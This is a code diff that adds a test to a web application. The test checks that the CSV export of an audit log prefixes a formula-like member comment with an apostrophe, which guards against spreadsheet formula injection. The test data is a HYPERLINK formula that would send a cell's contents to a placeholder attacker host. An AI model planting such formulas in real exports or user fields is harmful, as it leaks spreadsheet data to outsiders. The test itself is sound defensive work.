@@ -180,6 +180,21 @@ def test_audit_log_csv_export(client, people):
     assert member_client.get("/verwaltung/protokoll.csv").status_code == 403
 
 
+def test_the_audit_export_keeps_a_comment_that_looks_like_a_formula_as_text(client, people):
+    # Members write comments (a reuse's end reason); a curator opens the export in a
+    # spreadsheet program, which would run "=HYPERLINK(…)" as a formula.
+    _solution, declared, _need, _other = _events_setup(people)
+    formula = '=HYPERLINK("https://evil.example/?x="&A2;"Details")'
+    reuse.update_reuse(
+        actor=people["member"], reuse_id=declared.id, status="ended", ended_reason=formula
+    )
+    sign_in(client, people["curator"])
+    text = client.get("/verwaltung/protokoll.csv?typ=reuse").get_data(as_text=True)
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
+    comments = [r[4] for r in rows[1:]]
+    assert "'" + formula in comments and formula not in comments
+
+
 # Municipality and Kreis pages -----------------------------------------------------------------
 
 
